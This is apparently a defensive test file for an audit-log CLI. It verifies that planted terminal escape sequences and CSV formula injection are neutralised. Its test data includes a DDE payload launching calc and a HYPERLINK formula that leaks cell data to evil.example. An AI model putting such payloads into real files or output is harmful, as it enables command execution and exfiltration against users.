/* oxlint-disable no-control-regex -- they are what is looked for */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { PostgresAuditSink } from '../../src/postgres/write/sink.js'
import { csvCell } from '../../src/query/csv.js'
import { eventDigest } from '../../src/event/digest.js'
import { otelAudit } from '../cli/otel-audit.js'
import { connect, migratedDatabase, type TestDatabase } from '../support/database.js'
import { anEvent } from '../support/events.js'
import { withoutBounds } from '../support/without-bounds.js'

/** Clears the screen, hides what follows, sets the title, turns the direction; as C0 and as C1. */
const HOSTILE = 'x\u001b[2J\u001b[8m\u001b]0;pwned\u0007\u009b31m\u202emoc\u2066\u0085y\u2028z'
const ANY =
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/

let database: TestDatabase
let directory: string
let proof: string
let auditId: string

beforeAll(async () => {
  database = await migratedDatabase()
  directory = mkdtempSync(join(tmpdir(), 'otel-audit-hostile-'))
  const sink = new PostgresAuditSink({ databaseUrl: database.url })
  const [serviceName, serviceInstanceId] = [`s ${HOSTILE}`, `i ${HOSTILE}\nfindings   none`]
  sink.attach({ serviceName, serviceInstanceId, lost: 0, onBlock() {}, onLostBlocks() {} })
  const event = {
    ...anEvent({ credential: HOSTILE, actorId: HOSTILE }),
    operation: `get ${HOSTILE}\nenrolled   yes`,
    outcome: `ok\nby         index 0 ${HOSTILE}`,
    notes: HOSTILE,
    serverRegion: HOSTILE,
  } as ReturnType<typeof anEvent>
  await sink.write({ entries: [{ event, digest: eventDigest(event) }] })
  await sink.close()
  auditId = String(event.auditId)
  proof = join(directory, 'proof.json')
  await otelAudit(['verify', '--row', auditId, '--proof', proof], { DATABASE_URL: database.url })
  const client = await connect(database.url)
  await withoutBounds(client)
  await client.query(
    `insert into noetl.secret_audit_block (chain_id, block_no, log, kind, prev_hash, root, row_count, row_total,
       lost_total, block_time, body, signatures)
     values (gen_random_uuid(), 0, $1, $1, '', '', 0, 0, 0, 0, $1, $1)`,
    [HOSTILE],
  )
  await client.end()
})
afterAll(async () => {
  rmSync(directory, { recursive: true })
  await database.drop()
})

function file(name: string, text: string): string {
  const path = join(directory, name)
  writeFileSync(path, text)
  return path
}

const READ = ['--unrecorded', '--from', '-24h']
const READS = ['table', 'ndjson', 'json', 'csv'].flatMap((format) => [
  ['query', ...READ, '--format', format],
  ['summary', ...READ, '--by', 'credential', '--format', format],
])
const PATHS: readonly (readonly string[])[] = [
  ...READS,
  ['query', ...READ, '--credential', HOSTILE],
  ['query', ...READ, '--settled', HOSTILE],
  ['export', ...READ, '--format', 'csv'],
  ['export', ...READ, '--format', 'ndjson'],
  ['verify', '--format', 'table'],
  ['verify', '--format', 'json'],
  ['verify', '--format', 'ndjson'],
  ['doctor'],
  ['doctor', '--format', 'json'],
  ['doctor', '--database-url', `postgres://u:p@127.0.0.1:1/${encodeURIComponent(HOSTILE)}`],
]

for (const args of PATHS) {
  test(`otel-audit ${JSON.stringify(args.join(' ')).slice(0, 60)} prints no escapes`, async () => {
    const { stdout, stderr } = await otelAudit(args, { DATABASE_URL: database.url })
    expect(stdout + stderr).not.toMatch(ANY)
    expect((stdout + stderr).length).toBeGreaterThan(0)
    // A line break between the quotes of CSV is text.
    if (!args.includes('csv')) expect(stdout).not.toMatch(/^(findings {3}none|enrolled {3}yes)/m)
  })
}

test('nor do proofs, anchors, manifests and trust files of somebody else', async () => {
  const manifest = { format: 'otel-audit/export/v1', file: HOSTILE }
  const paths = [
    ['verify', '--proof', proof],
    ['verify', '--proof', proof, '--format', 'json'],
    ['verify', '--proof', file('evil.json', JSON.stringify({ format: HOSTILE }))],
    [
      'verify',
      '--proof',
      file(
        'field.json',
        readFileSync(proof, 'utf8').replace(
          '"event": {',
          `"event": {"${HOSTILE.replaceAll('\u001b', '\\u001b').replaceAll('\u0007', '\\u0007')}": 1,`,
        ),
      ),
    ],
    ['verify', '--trust', file('evil.trust', `${HOSTILE} ${HOSTILE}\n`)],
    ['verify', '--trust', file('key.trust', `enrolment ${HOSTILE.replaceAll(' ', '')}\n`)],
    ['verify', '--anchors', file('evil.jsonl', `{"secret_audit.chain": "\u009b"\n${HOSTILE}\n`)],
    ['verify', '--manifest', file('evil.manifest', JSON.stringify(manifest))],
    ['verify', '--manifest', file('text.manifest', HOSTILE)],
    ['verify', '--proof', join(directory, `${HOSTILE.replaceAll('/', '')}.json`)],
  ]
  for (const args of paths) {
    const { stdout, stderr } = await otelAudit(args, { DATABASE_URL: database.url })
    expect(stdout + stderr, JSON.stringify(args)).not.toMatch(ANY)
    expect(stdout, JSON.stringify(args)).not.toMatch(/^enrolled {3}yes/m)
  }
})

test.each([
  ["x;=1+2+cmd|' /C calc'!A0;y", `"x;'=1+2+cmd|' /C calc'!A0;y"`],
  ['w;=HYPERLINK("http://evil.example/?"&A1)', `"w;'=HYPERLINK(""http://evil.example/?""&A1)"`],
  ['a,+1', `"a,'+1"`],
  ['a| @SUM(A1)', `"a|' @SUM(A1)"`],
  ['a\t-1', `"a\t'-1"`],
  ['a\n=1', `"a\n'=1"`],
  ['a;\uFF1D1', `"a;'\uFF1D1"`],
  ['\u200b=1+1', `"'\u200b=1+1"`],
  ['a;b', '"a;b"'],
  ['a\u001b[2J', '"a\\u001b[2J"'],
])('the cell %j is %s', (value, cell) => {
  expect(csvCell(value)).toBe(cell)
})
